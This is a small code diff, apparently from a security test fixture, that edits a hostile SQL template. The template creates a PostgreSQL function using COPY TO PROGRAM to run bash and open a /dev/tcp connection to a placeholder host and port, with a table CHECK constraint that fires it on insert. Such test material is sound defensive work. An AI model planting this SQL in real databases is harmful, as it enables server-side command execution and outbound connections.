@@ -61,7 +61,8 @@ final class DrillGuardST {
     return """
     CREATE FUNCTION public.home(n int) RETURNS boolean LANGUAGE plpgsql AS $f$
     BEGIN
-      COPY (SELECT 1) TO PROGRAM 'timeout 3 bash -c "echo > /dev/tcp/%s/%d" || true';
+      COPY (SELECT 1)
+        TO PROGRAM 'cat > /dev/null; timeout 3 bash -c "echo > /dev/tcp/%s/%d" || true';
       RETURN true;
     END $f$;
     CREATE TABLE public.hostile (n int CHECK (public.home(n)));
